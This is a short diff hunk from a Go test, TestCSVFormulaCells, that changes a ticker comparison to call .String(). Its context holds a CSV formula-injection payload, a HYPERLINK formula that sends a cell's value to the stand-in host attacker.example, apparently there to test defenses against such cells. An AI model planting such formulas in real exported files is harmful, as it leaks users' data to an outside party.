@@ -159,7 +159,7 @@ func TestCSVFormulaCells(t *testing.T) {
 	const formula = `=HYPERLINK("http://attacker.example/?"&A1,"click")`
 	hit := -1
 	for i := range u.CashActions {
-		if u.CashActions[i].Ticker == "ENHZ3" {
+		if u.CashActions[i].Ticker.String() == "ENHZ3" {
 			hit = i
 			break
 		}
